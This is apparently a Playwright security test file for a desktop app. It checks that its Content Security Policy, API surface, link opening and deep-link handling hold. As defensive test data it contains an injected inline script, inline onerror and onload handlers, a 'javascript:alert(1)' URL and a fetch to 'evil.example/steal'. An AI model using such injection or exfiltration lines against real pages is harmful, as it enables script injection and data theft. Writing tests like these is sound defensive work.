import { invokeChannels } from '../../src/shared/ipc/channels';
import { expect, test } from './fixtures';

test('CSP blocks an injected inline script and inline handler', async ({ app }) => {
  const outcome = await app.evaluate(async () => {
    const violations: string[] = [];
    document.addEventListener('securitypolicyviolation', (e) =>
      violations.push(e.violatedDirective),
    );
    const script = document.createElement('script');
    script.textContent = 'window.__pwned = true';
    document.body.append(script);
    const img = document.createElement('img');
    img.setAttribute('src', 'data:,');
    img.setAttribute('onerror', 'window.__pwnedToo = true');
    img.setAttribute('onload', 'window.__pwnedToo = true');
    document.body.append(img);
    await new Promise((resolve) => setTimeout(resolve, 200));
    const w = window as unknown as Record<string, unknown>;
    return { pwned: w['__pwned'] ?? false, pwnedToo: w['__pwnedToo'] ?? false, violations };
  });
  expect(outcome.pwned).toBe(false);
  expect(outcome.pwnedToo).toBe(false);
  expect(outcome.violations.some((d) => d.startsWith('script-src'))).toBe(true);
});

test('CSP blocks requests to other origins', async ({ app }) => {
  const result = await app.evaluate(() =>
    fetch('https://evil.example/steal').then(
      () => 'sent',
      () => 'blocked',
    ),
  );
  expect(result).toBe('blocked');
});

test('window.api is exactly the contract and validates in the core', async ({ app }) => {
  const surface = await app.evaluate(() =>
    Object.entries(window.api).flatMap(([key, value]) =>
      typeof value === 'function' ? [key] : Object.keys(value).map((m) => `${key}.${m}`),
    ),
  );
  expect(surface.sort()).toEqual([...invokeChannels, 'on'].sort());
  const bad = await app.evaluate(() =>
    window.api.links.open({ url: 42 } as unknown as { url: string }),
  );
  expect(bad).toMatchObject({ ok: false, code: 'INVALID_INPUT' });
});

test('links open in the system browser only when safe', async ({ app, context, externalOpens }) => {
  const refused = await app.evaluate(() => window.api.links.open({ url: 'javascript:alert(1)' }));
  expect(refused).toEqual({ ok: true, value: { opened: false } });
  expect(context.pages()).toHaveLength(1);

  const tab = context.waitForEvent('page');
  const opened = await app.evaluate(() =>
    window.api.links.open({ url: 'https://example.invalid/help' }),
  );
  expect(opened).toEqual({ ok: true, value: { opened: true } });
  expect(externalOpens).toEqual(['https://example.invalid/help']);
  await tab;
  expect(context.pages()).toHaveLength(2);
});

test('a roadbook: navigation in any tab reaches the deep-link entry', async ({
  app,
  context,
  deepLinks,
}) => {
  const browserTab = await context.newPage();
  await browserTab
    .goto('roadbook://oauth/callback?code=abc&state=nope')
    .catch(() => 'the browser hands the scheme to the OS');
  await expect.poll(() => deepLinks.length).toBe(1);
  expect(deepLinks[0]).toEqual({
    url: 'roadbook://oauth/callback?code=abc&state=nope',
    outcome: { handled: false, message: 'No sign-in is in progress, so the link was ignored.' },
  });
  await expect(app.getByRole('navigation', { name: 'Main' })).toBeVisible();
});

test('events pushed by the core reach window.api listeners', async ({ app, core }) => {
  await app.evaluate(() => {
    const w = window as unknown as { received: unknown[] };
    w.received = [];
    window.api.on('auth.changed', (payload) => w.received.push(payload));
  });
  const state = await core.auth.state();
  core.events.emit('auth.changed', state);
  await expect
    .poll(() => app.evaluate(() => (window as unknown as { received: unknown[] }).received))
    .toEqual([state]);
});
